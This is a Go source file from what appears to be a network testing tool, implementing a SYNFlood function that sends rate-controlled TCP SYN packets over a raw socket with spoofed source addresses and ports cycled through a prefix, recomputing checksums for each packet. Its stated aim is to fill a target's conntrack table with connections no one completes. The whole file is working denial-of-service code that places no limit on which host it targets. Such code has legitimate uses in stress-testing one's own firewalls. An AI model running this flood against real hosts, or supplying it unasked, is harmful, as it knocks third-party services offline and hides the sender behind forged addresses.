package traffic

import (
	"encoding/binary"
	"errors"
	"fmt"
	"net/netip"
	"time"

	"golang.org/x/sys/unix"

	"github.com/netcube/netcube/internal/pkt"
)

// FloodReport is what a SYN flood sent so far.
type FloodReport struct {
	Sent    int     `json:"sent"`
	Errors  int     `json:"errors"` // sends the kernel refused (ENOBUFS: the sender's own queue was full)
	Seconds float64 `json:"seconds"`
	Done    bool    `json:"done,omitempty"`
}

// SYNFlood sends TCP SYNs to `to` at rate a second for d, each from a
// source of its own in from (a new address and port each, cycling): the
// flood a host with raw sockets sends to fill a conntrack table with
// connections no one will complete. IPv4 only. progress, if set, is
// called about once a second.
func SYNFlood(to netip.AddrPort, from netip.Prefix, rate float64, d time.Duration, progress func(FloodReport)) (FloodReport, error) {
	var rep FloodReport
	if !to.Addr().Is4() || !from.Addr().Is4() {
		return rep, errors.New("syn flood: IPv4 only (--to and --from)")
	}
	if rate <= 0 {
		return rep, errors.New("syn flood: the rate must be positive")
	}
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_RAW)
	if err != nil {
		return rep, fmt.Errorf("raw socket: %w", err)
	}
	defer unix.Close(fd)
	dst := &unix.SockaddrInet4{Addr: to.Addr().As4()}
	// One packet built once; each SYN changes its source and checksum.
	p := pkt.TCP(netip.AddrPortFrom(from.Addr(), 1024), to, pkt.TCPOpts{SYN: true, Seq: 1, Window: 64240}, nil)[14:]
	hosts := uint32(1) << (32 - from.Bits())
	base := binary.BigEndian.Uint32(from.Masked().Addr().AsSlice())

	start := time.Now()
	lastReport := start
	for i := uint32(0); ; {
		now := time.Now()
		elapsed := now.Sub(start)
		if elapsed >= d {
			break
		}
		if progress != nil && now.Sub(lastReport) >= time.Second {
			lastReport = now
			rep.Seconds = elapsed.Seconds()
			progress(rep)
		}
		due := int(rate*elapsed.Seconds()) - rep.Sent
		if due <= 0 {
			time.Sleep(time.Millisecond)
			continue
		}
		for ; due > 0; due-- {
			// Sources: every address of the prefix (but its first), then
			// the next port.
			host := 1 + i%(hosts-1)
			port := uint16(1024 + (i/(hosts-1))%60000)
			i++
			binary.BigEndian.PutUint32(p[12:16], base+host)
			binary.BigEndian.PutUint16(p[20:22], port)
			binary.BigEndian.PutUint32(p[24:28], i) // sequence number
			setTCPChecksum4(p)
			if err := unix.Sendto(fd, p, 0, dst); err != nil {
				if !errors.Is(err, unix.ENOBUFS) {
					return rep, fmt.Errorf("send: %w", err)
				}
				rep.Errors++
			}
			rep.Sent++
		}
	}
	rep.Seconds = time.Since(start).Seconds()
	rep.Done = true
	return rep, nil
}

// setTCPChecksum4 writes the TCP checksum of IPv4 packet p (a 20-byte IP
// header, no options).
func setTCPChecksum4(p []byte) {
	tcp := p[20:]
	tcp[16], tcp[17] = 0, 0
	var sum uint32
	for i := 12; i < 20; i += 2 { // pseudo header: addresses
		sum += uint32(binary.BigEndian.Uint16(p[i:]))
	}
	sum += uint32(unix.IPPROTO_TCP) + uint32(len(tcp))
	for i := 0; i+1 < len(tcp); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(tcp[i:]))
	}
	if len(tcp)%2 == 1 {
		sum += uint32(tcp[len(tcp)-1]) << 8
	}
	for sum>>16 != 0 {
		sum = sum&0xffff + sum>>16
	}
	binary.BigEndian.PutUint16(tcp[16:], ^uint16(sum))
}
